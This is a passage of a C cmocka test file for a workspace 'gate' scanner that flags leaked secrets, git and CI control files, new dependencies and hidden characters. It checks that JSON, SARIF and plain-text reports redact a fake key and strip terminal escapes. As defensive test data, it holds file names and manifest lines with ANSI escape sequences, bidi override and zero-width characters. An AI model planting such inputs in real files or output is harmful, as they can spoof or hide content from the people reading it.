	g_autofree char *key = fake_key(6), *text = g_strdup_printf("x\nkey=%s\n", key);
	const struct gate_report_names names = { "box", "/w s", "d1" };
	g_autoptr(JsonParser) parser = json_parser_new();
	GString *json = g_string_new(NULL), *sarif = g_string_new(NULL), *plain = g_string_new(NULL);
	g_autoptr(gate_result_t) r = NULL;
	JsonObject *o, *result;

	view_text(l, "a \xff\x1b[31m", text);
	view_text(l, "AGENTS.md", "x\n");
	r = run_with(l, "checks = secrets, control", NULL, NULL);
	assert_int_equal(r->verdict, GATE_REFUSE);
	gate_report_json(r, &names, collect, json);
	gate_report_sarif(r, &names, collect, sarif);
	gate_report_text(r, true, collect, plain);
	assert_null(strstr(json->str, key + 6));
	assert_null(strstr(sarif->str, key + 6));
	assert_null(strstr(plain->str, key + 6));
	assert_null(strchr(plain->str, '\x1b'));

	o = parse(parser, json);
	assert_string_equal(json_object_get_string_member(o, "schema"), "sbxfs.gate/1");
	assert_string_equal(json_object_get_string_member(o, "verdict"), "refuse");
	assert_int_equal(json_array_get_length(json_object_get_array_member(o, "findings")), 2);
	result = json_array_get_object_element(json_object_get_array_member(o, "findings"), 0);
	assert_string_equal(json_object_get_string_member(result, "check"), "secrets");
	assert_string_equal(json_object_get_string_member(result, "level"), "refuse");
	assert_int_equal(json_object_get_int_member(result, "line"), 2);
	assert_true(json_object_has_member(result, "path_b64"));

	o = parse(parser, sarif);
	assert_string_equal(json_object_get_string_member(o, "version"), "2.1.0");
	o = json_array_get_object_element(json_object_get_array_member(o, "runs"), 0);
	assert_int_equal(json_array_get_length(json_object_get_array_member(o, "results")), 2);
	result = json_array_get_object_element(json_object_get_array_member(o, "results"), 0);
	assert_string_equal(json_object_get_string_member(result, "level"), "error");
	result = json_array_get_object_element(json_object_get_array_member(result, "locations"), 0);
	result = json_object_get_object_member(json_object_get_object_member(result, "physicalLocation"), "artifactLocation");
	assert_string_equal(json_object_get_string_member(result, "uri"), "a%20%FF%1B%5B31m");
	g_string_free(json, TRUE);
	g_string_free(sarif, TRUE);
	g_string_free(plain, TRUE);
}

/* Findings beyond the limits are counted, and count. */
static void test_many_findings(void **state)
{
	struct layered *l = *state;
	GString *text = g_string_new(NULL);
	g_autoptr(gate_result_t) r = NULL;

	for (int i = 0; i < 3000; i++)
		g_string_append_printf(text, "dep%d\n", i);
	view_text(l, "requirements.txt", text->str);
	r = run_with(l, "checks = manifests", NULL, NULL);
	assert_int_equal(r->findings->len, 1000);
	assert_int_equal(r->unlisted, 2000);
	g_string_free(text, TRUE);
}

/* What is refused stays on the list, whatever comes before it. */
static void test_refused_among_many(void **state)
{
	struct layered *l = *state;
	g_autoptr(gate_result_t) r = NULL;
	g_autofree char *text = NULL;

	view_mkdir(l, ".ci");
	view_mkdir(l, "z");
	view_mkdir(l, "z/.git");
	for (int i = 0; i < 1001; i++) {
		g_autofree char *path = g_strdup_printf(".ci/%d", i);

		view_text(l, path, "");
	}
	view_text(l, "z/.git/config", "");
	r = run_with(l, "checks = control", NULL, NULL);
	text = findings_text(r);
	assert_true(g_str_has_prefix(text, "refuse control/git-code z/.git"));
	assert_int_equal(r->unlisted, 1);
}

/* A message shows what is in it, in its order. */
static void test_unseen_characters(void **state)
{
	struct layered *l = *state;
	g_autoptr(gate_result_t) r = NULL;

	view_text(l, "requirements.txt", "a\xe2\x80\xae\x1b[1m\xc2\x9b\xe2\x80\x8b\xc3\xa9\n");
	r = run_with(l, "checks = manifests", NULL, NULL);
	assert_int_equal(r->findings->len, 1);
	assert_string_equal(((const struct gate_finding *)r->findings->pdata[0])->message,
			    "new dependency a\xef\xbf\xbd\x20 = a\xef\xbf\xbd [1m\xef\xbf\xbd\xef\xbf\xbd\xc3\xa9");
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(test_added_lines),
		TEST(test_added_moved),
		TEST(test_added_repeated),
		TEST(test_added_last_line),
		TEST(test_added_all_removed),
		TEST(test_secrets_new_lines_only),
		TEST(test_secrets_behind_old_ones),
		TEST(test_secrets_everywhere),
		TEST(test_secrets_new_body_under_old_header),
		TEST(test_secrets_that_were_there),
		TEST(test_secrets_of_one_file),
		TEST(test_unreadable_old_version),
		TEST(test_unreadable_new_version),
		TEST(test_secrets_no_excuse_from_inside),
		TEST(test_secrets_excuses_of_the_policy),
		cmocka_unit_test(test_config_values),
		TEST(test_config_errors),
		cmocka_unit_test(test_layers),
		cmocka_unit_test(test_workspace_layer_only_tightens),
		cmocka_unit_test(test_default_checks),
		TEST(test_scope),
		TEST(test_modes),
		TEST(test_modes_of_what_was_there),
		TEST(test_size),
		TEST(test_personal),
		TEST(test_control),
		TEST(test_manifests),
		TEST(test_manifest_unreadable),
		TEST(test_manifests_change_otherwise),
		cmocka_unit_test(test_json_strings),
		cmocka_unit_test(test_manifests_of_noise),
		cmocka_unit_test(test_token_patterns),
		TEST(test_tests),
		TEST(test_no_tests_by_default),
		TEST(test_reports),
		TEST(test_many_findings),
		TEST(test_refused_among_many),
		TEST(test_unseen_characters),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
